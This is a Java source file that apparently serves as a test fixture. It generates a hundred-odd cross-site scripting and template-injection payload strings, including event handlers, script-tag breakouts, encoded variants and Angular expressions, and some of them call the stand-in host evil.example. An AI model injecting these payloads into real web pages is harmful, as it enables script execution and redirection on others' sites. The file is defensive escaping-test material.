package io.watchdesk.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A hundred texts that would act if they were anything but text. What runs sets {@code pwned}, what is made an element has the
 * attribute {@code data-xss}, what is worked out shows {@code 90009}, what loads asks {@code evil.example}.
 */
final class Payloads {

    /** What a template that is worked out would leave. */
    static final String WORKED_OUT = "90009";

    static final String ELSEWHERE = "evil.example";

    private static final String ACT = "pwned=1;alert(1);fetch('https://evil.example/f')";

    private static final List<String> ALL = all();

    private final AtomicInteger next = new AtomicInteger();

    /** The next one, the first after the last, with a mark of its own so that it can be found. */
    String next() {
        int number = next.getAndIncrement();
        return "xss-%d ".formatted(number) + ALL.get(number % ALL.size());
    }

    static List<String> list() {
        return ALL;
    }

    private static List<String> all() {
        List<String> all = new ArrayList<>();
        for (String event :
                List.of("onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "onanimationstart")) {
            String name = event.split(" ")[0];
            String rest = event.substring(name.length());
            all.add("<img data-xss src=https://evil.example/i %s=\"%s\"%s>".formatted(name, ACT, rest));
            all.add("<svg data-xss %s=%s%s>".formatted(name, ACT.replace(" ", ""), rest));
            all.add("\"><input data-xss %s='%s'%s>".formatted(name, ACT.replace("'", "`"), rest));
            all.add("'><body data-xss %s=\"%s\">".formatted(name, ACT));
        }
        for (String scheme : List.of(
                "javascript:",
                "JaVaScRiPt:",
                "java\tscript:",
                "\u0001javascript:",
                " javascript:",
                "vbscript:",
                "data:text/html,<script>")) {
            all.add(scheme + ACT);
            all.add("<a data-xss href=\"%s%s\">x</a>".formatted(scheme, ACT));
            all.add("[click](%s%s)".formatted(scheme, ACT));
            all.add("![x](https://evil.example/m \"onerror=%s\")".formatted(ACT));
        }
        for (String tag : List.of(
                "<script data-xss>%s</script>",
                "</script><script data-xss>%s</script>",
                "</textarea><script data-xss>%s</script>",
                "</title><script data-xss>%s</script>",
                "</style><script data-xss>%s</script>",
                "--><script data-xss>%s</script>",
                "]]><script data-xss>%s</script>",
                "<ScRiPt data-xss>%s</sCrIpT>",
                "<script data-xss src=https://evil.example/s.js></script>%s",
                "<iframe data-xss srcdoc=\"<script>parent.pwned=1</script>\"></iframe>%s",
                "<iframe data-xss src=\"javascript:%s\"></iframe>",
                "<object data-xss data=\"javascript:%s\"></object>",
                "<embed data-xss src=\"https://evil.example/e\">%s",
                "<link data-xss rel=stylesheet href=https://evil.example/c.css>%s",
                "<style data-xss>@import 'https://evil.example/c.css';</style>%s",
                "<meta data-xss http-equiv=refresh content=\"0;url=https://evil.example/\">%s",
                "<base data-xss href=https://evil.example/>%s",
                "<form data-xss action=https://evil.example/><button>go</button></form>%s",
                "<details data-xss open ontoggle=\"%s\">x</details>",
                "<video data-xss><source onerror=\"%s\"></video>",
                "<math data-xss><mtext><img src=x onerror=\"%s\"></mtext></math>",
                "<svg data-xss><animate onbegin=\"%s\" attributeName=x></svg>",
                "<svg data-xss><script>%s</script></svg>",
                "<div data-xss style=\"background:url(https://evil.example/b)\">%s</div>",
                "&lt;img data-xss src=x onerror=\"%s\"&gt;",
                "&#60;script data-xss&#62;%s&#60;/script&#62;",
                "\\u003cscript data-xss\\u003e%s\\u003c/script\\u003e",
                "%%3Cscript data-xss%%3E%s%%3C/script%%3E",
                "\"};%s;//",
                "';%s;//",
                "${%s}",
                "`${%s}`")) {
            all.add(tag.formatted(ACT));
        }
        all.add("{{90000+9}}{{constructor.constructor('pwned=1')()}}");
        all.add("{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };pwned=1//')}}");
        all.add("[[90000+9]] [[${90000+9}]] ${90000+9} #{90000+9} *{90000+9} ~{90000+9}");
        all.add("<span data-xss ng-app ng-init=\"pwned=1\" ng-bind=\"90000+9\">x</span>");
        all.add("<b data-xss th:text=\"${90000+9}\">x</b>");
        all.add("\u202E<img data-xss src=x onerror=\"pwned=1\">\u202C");
        all.add("\uFF1Cscript data-xss\uFF1Epwned=1\uFF1C/script\uFF1E");
        all.add("+ADw-script data-xss+AD4-pwned=1+ADw-/script+AD4-");
        all.add("<img data-xss src=\"x\u0000\" onerror=\"pwned=1\">".replace("\u0000", "\u00A0"));
        all.add("<x data-xss contenteditable onfocus=pwned=1 tabindex=0 autofocus>");
        all.add("https://evil.example/<script data-xss>pwned=1</script>");
        all.add("https://\"onmouseover=\"pwned=1\" data-xss=\"@evil.example/");
        all.add("<IMG data-xss SRC=`javascript:pwned=1`>");
        all.add("<noscript><p title=\"</noscript><img data-xss src=x onerror=pwned=1>\">");
        all.add("<template data-xss><img src=x onerror=pwned=1></template>");
        all.add("<marquee data-xss onstart=pwned=1>x</marquee>");
        return List.copyOf(all);
    }
}
